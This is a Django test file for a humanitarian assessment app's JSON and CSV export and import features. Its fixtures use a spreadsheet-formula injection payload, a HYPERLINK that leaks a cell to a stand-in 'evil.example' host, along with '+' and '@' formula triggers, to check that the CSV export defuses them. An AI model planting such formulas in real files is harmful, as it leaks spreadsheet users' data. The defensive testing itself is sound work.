"""Data exports of one assessment (export.json, threats.csv) for everyone who can see it,
the JSON round trip through import_assessment, spreadsheet-formula defusing, file names,
and imports that fail cleanly without creating anything."""

from __future__ import annotations

import csv
import datetime
import io
import json
from io import StringIO

import pytest
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command
from django.utils import timezone

from assessments.content.selectors import AssessmentData
from assessments.interchange.document import assessment_document
from assessments.interchange.importer import import_assessment
from assessments.models import (
    Answer,
    Assessment,
    ComponentTag,
    Indicator,
    Membership,
    PopulationGroup,
    Response,
    Threat,
)
from assessments.review import services as workflow
from frameworks.models import Prompt
from tests.factories import (
    AnswerFactory,
    AssessmentFactory,
    ComponentTagFactory,
    IndicatorFactory,
    PopulationGroupFactory,
    ResponseFactory,
    ThreatFactory,
    member,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
MODELS = (Assessment, Answer, PopulationGroup, Threat, ComponentTag, Indicator, Response)


def _counts() -> dict[str, int]:
    return {model.__name__: model.objects.count() for model in MODELS}


@pytest.fixture
def rich(team, practitioner, version):
    """Every exported field set to something other than its default."""
    carl = member(team, "carl")
    a = AssessmentFactory(
        title="Goma: displacement & land, 2025",
        team=team,
        owner=practitioner,
        framework_version=version,
        country="DR Congo",
        area="North Kivu",
        population_focus="Displaced families around Goma",
        period_start=datetime.date(2025, 1, 1),
        period_end=datetime.date(2025, 12, 31),
        key_points="Land disputes drive displacement.\nCholera follows the rains.",
    )
    a.collaborators.add(carl)
    for key, text in [
        ("context-situation", "Fighting north of Goma since January."),
        ("whom-own-account", "Women say the water points are the danger."),
        ("sources-list", "OCHA; our own interviews."),
    ]:
        prompt = Prompt.objects.get(section__version=version, key=key)
        AnswerFactory(assessment=a, prompt=prompt, text=text)
    dims = {d.key: d for d in version.dimensions.all()}
    comps = {c.key: c for c in version.components.all()}
    women = PopulationGroupFactory(
        assessment=a,
        name="Women at water points",
        description="Fetch water at night.",
        sex=PopulationGroup.Sex.FEMALE,
        age_from=18,
        age_to=49,
        disability=PopulationGroup.Disability.MIXED,
        displacement_status=PopulationGroup.Displacement.IDP,
        ethnicity="Hunde",
        religion="Catholic",
        other_characteristics="Urban",
        estimated_size=4000,
        sensitive=False,
    )
    minority = PopulationGroupFactory(
        assessment=a, name="Banyamulenge families", sensitive=True, estimated_size=300
    )
    seizures = ThreatFactory(
        assessment=a,
        title=HYPERLINK,
        description="Fields taken by armed men.",
        dimension=dims["economic"],
        source_actor="+M23 patrols",
        actor_type="non_state_armed",
        likelihood=4,
        severity=5,
        urgency=3,
        trend="deteriorating",
        confidence="high",
        basis="both",
        onset="sudden",
        root_causes="@SUM(land tenure)",
    )
    seizures.affected_groups.add(women, minority)
    ComponentTagFactory(threat=seizures, component=comps["person-centred"], rationale="Income.")
    ComponentTagFactory(threat=seizures, component=comps["preventive"], rationale="Tenure.")
    IndicatorFactory(
        threat=seizures,
        name="Checkpoint closures",
        kind="trigger",
        baseline="1 a week",
        threshold="3 a week",
        source="OCHA access",
        frequency="weekly",
    )
    cholera = ThreatFactory(
        assessment=a, title="Cholera outbreak", dimension=dims["health"], likelihood=2, severity=3
    )
    cholera.affected_groups.add(women)
    ComponentTagFactory(threat=cholera, component=comps["multi-dimensional"], rationale="Water.")
    desks = ResponseFactory(
        assessment=a,
        title="Legal aid desks",
        description="Help to claim land back.",
        strategy="protection",
        actor="NRC",
        actor_type="international",
        timeframe="before the planting season",
        status="gap",
        preventive=True,
        do_no_harm_risk="Claimants could be targeted.",
        groups=[women],
    )
    desks.threats.add(seizures, cholera)
    ResponseFactory(assessment=a, title="Water committees", strategy="empowerment")
    return a


def _document_of(assessment) -> dict:
    return assessment_document(AssessmentData(assessment))


def _get_json(client, assessment) -> dict:
    response = client.get(f"/assessments/{assessment.pk}/export.json")
    assert response.status_code == 200
    return json.loads(response.content)


# --- export.json --------------------------------------------------------------------------


def test_export_json_is_the_whole_assessment_with_its_framework_version(
    client, login, rich, practitioner
):
    response = login(practitioner).get(f"/assessments/{rich.pk}/export.json")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="goma-displacement-land-2025-{today}.json"'
    )
    doc = json.loads(response.content)
    assert doc["format"] == "hsassess-assessment/1"
    assert doc["framework"] == {"slug": "human-security-lens", "version": 1}
    assert doc["assessment"] == {
        "title": "Goma: displacement & land, 2025",
        "language": "en",
        "team": "north",
        "owner": "pat",
        "collaborators": ["carl"],
        "country": "DR Congo",
        "area": "North Kivu",
        "population_focus": "Displaced families around Goma",
        "period_start": "2025-01-01",
        "period_end": "2025-12-31",
        "key_points": "Land disputes drive displacement.\nCholera follows the rains.",
        "public_key_points": "",
        "status": "draft",
    }
    assert {(a["section"], a["prompt"]) for a in doc["answers"]} == {
        ("context", "context-situation"),
        ("whom", "whom-own-account"),
        ("sources", "sources-list"),
    }
    women = next(g for g in doc["groups"] if g["name"] == "Women at water points")
    assert women["estimated_size"] == 4000
    assert (women["age_from"], women["age_to"]) == (18, 49)
    assert [g["sensitive"] for g in doc["groups"]] == [True, False]
    first = doc["threats"][0]
    seizures = Threat.objects.get(assessment=rich, title=HYPERLINK)
    cholera = Threat.objects.get(assessment=rich, title="Cholera outbreak")
    # A threat's reference is the number it carries everywhere.
    assert first["ref"] == f"T{seizures.number}"
    assert first["title"] == HYPERLINK  # raw data; only the CSV is defused
    assert first["dimension"] == "economic"
    assert first["affected_groups"] == ["Banyamulenge families", "Women at water points"]
    assert first["tags"] == [
        {"component": "person-centred", "rationale": "Income."},
        {"component": "preventive", "rationale": "Tenure."},
    ]
    assert first["indicators"][0]["kind"] == "trigger"
    desks = next(r for r in doc["responses"] if r["title"] == "Legal aid desks")
    assert desks["groups"] == ["Women at water points"]
    assert desks["threats"] == sorted([f"T{seizures.number}", f"T{cholera.number}"])


def test_export_import_export_round_trip(client, login, rich, practitioner, tmp_path):
    workflow.assessment_submit(assessment=rich, user=practitioner)
    login(practitioner)
    first = _get_json(client, rich)
    path = tmp_path / "export.json"
    path.write_text(json.dumps(first), encoding="utf-8")
    before = Assessment.objects.count()

    out = StringIO()
    call_command("import_assessment", str(path), "--owner", "pat", "--team", "north", stdout=out)

    assert Assessment.objects.count() == before + 1
    copy = Assessment.objects.exclude(pk=rich.pk).get()
    assert out.getvalue().strip() == (
        f"Imported “Goma: displacement & land, 2025” as assessment {copy.pk} (draft) for team "
        "north, owner pat."
    )
    second = _get_json(client, copy)
    assert (first["assessment"].pop("status"), second["assessment"].pop("status")) == (
        "submitted",
        "draft",
    )
    assert second == first


def test_import_service_into_another_team_keeps_only_collaborators_who_are_members(
    rich, other_team
):
    owner = member(other_team, "olga")
    document = json.loads(json.dumps(_document_of(rich)))

    copy = import_assessment(document=document, owner=owner, team=other_team)

    assert (copy.team, copy.owner, copy.status) == (other_team, owner, "draft")
    assert list(copy.collaborators.all()) == []
    assert copy.threats.count() == 2
    assert copy.framework_version_id == rich.framework_version_id


# --- threats.csv --------------------------------------------------------------------------


def test_threats_csv_has_a_row_per_threat_with_components_and_defused_formulas(
    client, login, rich, practitioner
):
    response = login(practitioner).get(f"/assessments/{rich.pk}/threats.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="goma-displacement-land-2025-threats-{today}.csv"'
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert len(rows) == 2
    header = list(rows[0])
    for column in ("title", "dimension", "likelihood", "severity", "urgency", "components"):
        assert column in header
    seizures, cholera = rows
    assert seizures["number"] == f"T{Threat.objects.get(title=HYPERLINK).number}"
    # Cells a spreadsheet would run as a formula start with a quote instead.
    assert seizures["title"] == "'" + HYPERLINK
    assert seizures["source_actor"] == "'+M23 patrols"
    assert seizures["root_causes"] == "'@SUM(land tenure)"
    assert seizures["dimension"] == "Economic security"
    assert (seizures["likelihood"], seizures["severity"], seizures["urgency"]) == ("4", "5", "3")
    assert seizures["risk_score"] == "20"
    assert seizures["components"] == "person-centred; preventive"
    assert seizures["tag_rationales"] == "person-centred: Income. | preventive: Tenure."
    assert seizures["indicators"] == "Checkpoint closures"
    assert seizures["affected_groups"] == "Banyamulenge families; Women at water points"
    assert cholera["title"] == "Cholera outbreak"
    assert cholera["components"] == "multi-dimensional"


@pytest.mark.parametrize(
    ("title", "stem"),
    [("Évaluation à Goma", "evaluation-a-goma"), ("غزة", "assessment")],
)
def test_export_file_names_carry_a_slug_and_the_date(
    client, login, team, practitioner, version, title, stem
):
    a = AssessmentFactory(title=title, team=team, owner=practitioner, framework_version=version)
    login(practitioner)
    today = timezone.localdate().isoformat()

    json_name = client.get(f"/assessments/{a.pk}/export.json")["Content-Disposition"]
    csv_name = client.get(f"/assessments/{a.pk}/threats.csv")["Content-Disposition"]

    assert json_name == f'attachment; filename="{stem}-{today}.json"'
    assert csv_name == f'attachment; filename="{stem}-threats-{today}.csv"'


# --- who may export -------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["owner", "teammate", "supervisor"])
@pytest.mark.parametrize("approved", [False, True], ids=["draft", "approved"])
def test_everyone_who_can_view_exports_the_data(
    client, login, fake_render, assessment, practitioner, supervisor, team, who, approved
):
    if approved:
        reviewer = member(team, "rita", Membership.Role.SUPERVISOR)
        workflow.assessment_submit(assessment=assessment, user=practitioner)
        workflow.assessment_approve(assessment=assessment, user=reviewer)
    user = {"owner": practitioner, "supervisor": supervisor}.get(who) or member(team, "tess")
    login(user)

    as_json = client.get(f"/assessments/{assessment.pk}/export.json")
    as_csv = client.get(f"/assessments/{assessment.pk}/threats.csv")

    assert as_json.status_code == as_csv.status_code == 200
    assert json.loads(as_json.content)["assessment"]["title"] == assessment.title
    assert as_csv.content.decode().startswith("number,title,dimension,")


@pytest.mark.parametrize(
    "url", ["brief.pdf", "brief.pdf?variant=public", "export.json", "threats.csv"]
)
@pytest.mark.parametrize("role", [Membership.Role.PRACTITIONER, Membership.Role.SUPERVISOR])
def test_other_teams_get_404_for_the_brief_and_the_exports(
    client, login, assessment, other_team, role, url
):
    outsider = member(other_team, "olga", role)

    response = login(outsider).get(f"/assessments/{assessment.pk}/{url}")

    assert response.status_code == 404


@pytest.mark.parametrize("url", ["brief.pdf", "export.json", "threats.csv"])
def test_anonymous_people_sign_in_first(client, assessment, url):
    response = client.get(f"/assessments/{assessment.pk}/{url}")

    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


# --- imports that fail ----------------------------------------------------------------------


def _import_file(tmp_path, content: str, *options: str) -> None:
    path = tmp_path / "incoming.json"
    path.write_text(content, encoding="utf-8")
    call_command("import_assessment", str(path), *options, stdout=StringIO())


@pytest.fixture
def exported(rich) -> dict:
    return json.loads(json.dumps(_document_of(rich)))


def test_import_of_an_unknown_framework_version_changes_nothing(tmp_path, exported):
    exported["framework"]["version"] = 99
    before = _counts()

    with pytest.raises(CommandError) as exc:
        _import_file(tmp_path, json.dumps(exported), "--owner", "pat", "--team", "north")

    assert "was not imported; nothing changed" in str(exc.value)
    assert "Framework human-security-lens version 99 is not published on this instance" in str(
        exc.value
    )
    assert _counts() == before


def test_import_of_a_draft_framework_version_changes_nothing(tmp_path, exported, version):
    from frameworks.services import version_new_draft

    draft = version_new_draft(version=version)
    exported["framework"]["version"] = draft.number
    before = _counts()

    with pytest.raises(CommandError, match="is not published on this instance"):
        _import_file(tmp_path, json.dumps(exported), "--owner", "pat", "--team", "north")

    assert _counts() == before


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ('{"format": "hsassess-assessment/1", ', "not a JSON document"),
        ("[1, 2, 3]", "Not an hsassess assessment export"),
        ('{"format": "hsassess-framework/1"}', "Not an hsassess assessment export"),
    ],
    ids=["truncated", "a-list", "a-framework-file"],
)
def test_import_of_bad_json_changes_nothing(tmp_path, rich, content, message):
    before = _counts()

    with pytest.raises(CommandError, match=message):
        _import_file(tmp_path, content, "--owner", "pat", "--team", "north")

    assert _counts() == before


def test_import_of_a_missing_file_or_unknown_owner_or_team(tmp_path, exported):
    before = _counts()

    with pytest.raises(CommandError, match="cannot read the file"):
        call_command("import_assessment", str(tmp_path / "nowhere.json"), stdout=StringIO())
    with pytest.raises(CommandError, match="No user 'nobody'"):
        _import_file(tmp_path, json.dumps(exported), "--owner", "nobody")
    with pytest.raises(CommandError, match="No team 'nowhere'"):
        _import_file(tmp_path, json.dumps(exported), "--team", "nowhere")

    assert _counts() == before


def test_import_lists_every_unknown_reference_and_changes_nothing(tmp_path, exported):
    exported["assessment"]["team"] = "atlantis"
    exported["answers"][0]["prompt"] = "no-such-prompt"
    exported["threats"][0]["dimension"] = "cosmic"
    exported["threats"][0]["tags"][0]["component"] = "vibes"
    exported["threats"][1]["affected_groups"] = ["Nobody"]
    exported["assessment"]["period_start"] = "January"
    before = _counts()

    with pytest.raises(CommandError) as exc:
        _import_file(tmp_path, json.dumps(exported))

    message = str(exc.value)
    for problem in [
        "assessment.team: no team 'atlantis' here; pass --team.",
        "answers[0]: unknown prompt context/no-such-prompt",
        "threats[0].dimension: unknown 'cosmic'",
        "threats[0].tags: unknown component 'vibes'",
        "threats[1].affected_groups: unknown group 'Nobody'",
        "assessment.period_start: not a date (YYYY-MM-DD)",
    ]:
        assert problem in message
    assert _counts() == before


def test_an_import_that_fails_halfway_is_rolled_back(tmp_path, exported):
    # Passes the up-front checks; the second threat breaks the database's score range
    # only after the assessment, its answers, groups and first threat were written.
    exported["threats"][1]["likelihood"] = 99
    before = _counts()

    with pytest.raises(CommandError, match="was not imported; nothing changed"):
        _import_file(tmp_path, json.dumps(exported), "--owner", "pat", "--team", "north")

    assert _counts() == before


def test_import_service_refuses_with_a_validation_error(exported):
    exported["framework"] = {"slug": "no-such-framework", "version": 1}
    before = _counts()

    with pytest.raises(ValidationError, match="Framework no-such-framework version 1"):
        import_assessment(document=exported)

    assert _counts() == before
